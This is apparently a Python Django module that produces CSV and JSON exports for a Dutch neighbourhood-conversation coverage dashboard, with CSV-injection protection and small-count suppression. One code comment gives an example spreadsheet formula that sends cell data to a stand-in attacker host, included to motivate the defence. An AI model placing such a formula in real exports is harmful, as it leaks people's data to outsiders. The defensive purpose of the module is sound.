"""CSV exports of the dashboard tables, and the open data (JSON and CSV).

Staff exports carry translated column headers and a byte-order mark (so that Excel reads
the names with accents right); open data has fixed English field names, documented in
docs/open-data.md, and publishes no number of participants below 5, and no effect of the
conversations (gesprekken/effect.py) over fewer than 5 paired answers.
"""

import csv
import io
from datetime import datetime

from django.conf import settings
from django.http import HttpResponse, JsonResponse
from django.utils import timezone
from django.utils.functional import Promise
from django.utils.translation import gettext as _

from gesprekken.effect import MIN_ANSWERS, Effect, OpenData

from .queries import SUPPRESS_BELOW, AreaRow, Coverage

OPEN_DATA_LICENCE = "CC BY 4.0"
OPEN_DATA_FIELDS = [
    "code",
    "name",
    "province_code",
    "province",
    "gesprekken_held",
    "gesprekken_planned",
    "buurten_reached",
    "buurten_total",
    "participants",
]
# The effect of the conversations (the before/after survey), per gemeente and, prefixed
# with "province_", of its province: empty where fewer than 5 people answered both times.
EFFECT_FIELDS = [
    "effect_n",
    "thermometer_change",
    "thermometer_change_low",
    "thermometer_change_high",
    "trust_change",
    "trust_change_low",
    "trust_change_high",
    "argument_share",
]
OPEN_DATA_FIELDS += EFFECT_FIELDS + [f"province_{name}" for name in EFFECT_FIELDS]

# A spreadsheet runs a text cell that starts with one of these as a formula: a facilitator's
# first name =HYPERLINK("http://evil.example/?"&A1,"Klik") would send the coordinator's data
# away. OWASP's advice (CSV injection): put an apostrophe in front, so the cell stays text.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value as a spreadsheet shows it, never as a formula it runs.

    Text that starts like a formula gets a leading apostrophe; numbers (also negative ones),
    None and everything else that is not text stay as they are, so counts stay numbers.
    """
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_response(filename: str, header: list, rows, *, bom: bool = True) -> HttpResponse:
    """Every CSV of the dashboards and the open data: each cell, the header's too, made safe."""
    buffer = io.StringIO()
    if bom:
        buffer.write("\ufeff")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([safe_cell(value) for value in header])
    writer.writerows([safe_cell(value) for value in row] for row in rows)
    response = HttpResponse(buffer.getvalue(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def _date(value) -> str:
    return value.isoformat() if value else ""


def scope_suffix(scope) -> str:
    """Part of an export's file name: which period it covers."""
    if not (scope.start or scope.end):
        return ""
    return f"-{_date(scope.start) or 'begin'}-{_date(scope.end) or 'nu'}"


# --- Staff tables --------------------------------------------------------------------------


def gemeenten_table(rows: list[AreaRow]):
    header = [
        _("Code"),
        _("Municipality"),
        _("Province"),
        _("Conversations held"),
        _("Conversations planned"),
        _("Neighbourhoods reached"),
        _("Neighbourhoods with plans"),
        _("Neighbourhoods"),
        _("Participants"),
    ]
    body = [
        [
            row.code,
            row.name,
            row.parent_name,
            row.held,
            row.planned,
            row.buurten_held,
            row.buurten_planned,
            row.buurten,
            row.participants,
        ]
        for row in rows
    ]
    return header, body


def provincies_table(rows: list[AreaRow]):
    header = [
        _("Province"),
        _("Municipalities reached"),
        _("Municipalities with plans"),
        _("Municipalities"),
        _("Neighbourhoods reached"),
        _("Neighbourhoods"),
        _("Conversations held"),
        _("Conversations planned"),
        _("Participants"),
    ]
    body = [
        [
            row.name,
            row.gemeenten_held,
            row.gemeenten_planned,
            row.gemeenten,
            row.buurten_held,
            row.buurten,
            row.held,
            row.planned,
            row.participants,
        ]
        for row in rows
    ]
    return header, body


def wijken_table(rows: list[AreaRow]):
    header = [
        _("Code"),
        _("District"),
        _("Neighbourhoods reached"),
        _("Neighbourhoods with plans"),
        _("Neighbourhoods"),
        _("Conversations held"),
        _("Conversations planned"),
        _("Participants"),
        _("Open interest"),
    ]
    body = [
        [
            row.code,
            row.name,
            row.buurten_held,
            row.buurten_planned,
            row.buurten,
            row.held,
            row.planned,
            row.participants,
            row.open_interest,
        ]
        for row in rows
    ]
    return header, body


def buurten_table(wijken: list[AreaRow]):
    header = [
        _("Code"),
        _("Neighbourhood"),
        _("District"),
        _("Conversations held"),
        _("Conversations planned"),
        _("Participants"),
        _("Open interest"),
    ]
    body = [
        [
            row.code,
            row.name,
            wijk.name,
            row.held,
            row.planned,
            row.participants,
            row.open_interest,
        ]
        for wijk in wijken
        for row in wijk.children
    ]
    return header, body


def trend_table(weeks):
    header = [_("Week starting"), _("Conversations held"), _("Residents who took part")]
    return header, [[week.start.isoformat(), week.held, week.participants] for week in weeks]


def themes_table(themes):
    header = [_("Theme"), _("Reports"), _("Share of reports (%)")]
    return header, [[t.name, t.verslagen, round(100 * t.share, 1)] for t in themes]


def demand_table(demand):
    header = [
        _("Neighbourhood code"),
        _("Neighbourhood"),
        _("District"),
        _("Municipality"),
        _("Residents interested"),
        _("Waiting since"),
    ]
    body = [
        [
            row.buurt_code,
            row.buurt_name,
            row.wijk_name,
            row.gemeente_name,
            row.interested,
            timezone.localdate(row.waiting_since).isoformat(),
        ]
        for row in demand
    ]
    return header, body


def load_table(months, loads):
    header = [_("Facilitator (first name)"), *[m.strftime("%Y-%m") for m in months], _("Total")]
    return header, [[load.label, *load.months, load.total] for load in loads]


# --- Open data -------------------------------------------------------------------------------


def effect_fields(figures: Effect, prefix: str = "") -> dict:
    """The effect columns of one area: rounded, and None where not published."""
    shown = figures.shown

    def rounded(value, decimals):
        return round(value, decimals) if shown else None

    thermometer, trust = figures.thermometer, figures.trust
    values = {
        "effect_n": figures.published_n,
        "thermometer_change": rounded(thermometer and thermometer.mean, 1),
        "thermometer_change_low": rounded(thermometer and thermometer.low, 1),
        "thermometer_change_high": rounded(thermometer and thermometer.high, 1),
        "trust_change": rounded(trust and trust.mean, 2),
        "trust_change_low": rounded(trust and trust.low, 2),
        "trust_change_high": rounded(trust and trust.high, 2),
        "argument_share": rounded(figures.argument_share, 3),
    }
    return {f"{prefix}{name}": value for name, value in values.items()}


def open_data_rows(coverage: Coverage, effects: OpenData | None = None) -> list[dict]:
    """One row per existing gemeente; with `effects`, the effect columns too."""
    rows = []
    for row in coverage.gemeenten:
        values = {
            "code": row.code,
            "name": row.name,
            "province_code": row.parent_code,
            "province": row.parent_name,
            "gesprekken_held": row.held,
            "gesprekken_planned": row.planned,
            "buurten_reached": row.buurten_held,
            "buurten_total": row.buurten,
            "participants": row.participants_published,
        }
        if effects is not None:
            values.update(effect_fields(effects.gemeente(row.code)))
            values.update(effect_fields(effects.provincie(row.parent_code), "province_"))
        rows.append(values)
    return rows


def open_data_totals(coverage: Coverage, rows: list[dict]) -> dict:
    """National totals over the published rows. Participants add up the published numbers
    only, so that no suppressed number can be worked out by subtraction."""
    totals = coverage.totals
    return {
        "gemeenten": totals.gemeenten,
        "gemeenten_reached": totals.gemeenten_held,
        "gemeenten_planned": totals.gemeenten_planned,
        "buurten": totals.buurten,
        "buurten_reached": totals.buurten_held,
        "gesprekken_held": sum(row["gesprekken_held"] for row in rows),
        "gesprekken_planned": sum(row["gesprekken_planned"] for row in rows),
        "participants": sum(row["participants"] or 0 for row in rows),
    }


def open_data_json(coverage: Coverage, effects: OpenData, *, generated_at: datetime):
    rows = open_data_rows(coverage, effects)
    document = {
        "title": "Buurtgesprek: dekking per gemeente",
        "generated_at": generated_at.isoformat(timespec="seconds"),
        "source": f"{settings.SITE_URL}/dekking/publiek/",
        "licence": OPEN_DATA_LICENCE,
        "definitions": "docs/open-data.md",
        "suppressed_below": SUPPRESS_BELOW,
        "effect_suppressed_below": MIN_ANSWERS,
        "fields": OPEN_DATA_FIELDS,
        "totals": open_data_totals(coverage, rows),
        "effect": effect_fields(effects.total),
        "gemeenten": rows,
    }
    response = JsonResponse(document, json_dumps_params={"ensure_ascii": False})
    return _open(response)


def open_data_csv(coverage: Coverage, effects: OpenData) -> HttpResponse:
    rows = open_data_rows(coverage, effects)
    body = [["" if row[f] is None else row[f] for f in OPEN_DATA_FIELDS] for row in rows]
    response = csv_response("dekking.csv", OPEN_DATA_FIELDS, body, bom=False)
    response["Content-Disposition"] = 'inline; filename="dekking.csv"'
    return _open(response)


def _open(response: HttpResponse) -> HttpResponse:
    # Open data: anyone may read it, also from a script on another site.
    response["Access-Control-Allow-Origin"] = "*"
    response["Cache-Control"] = "public, max-age=300"
    return response
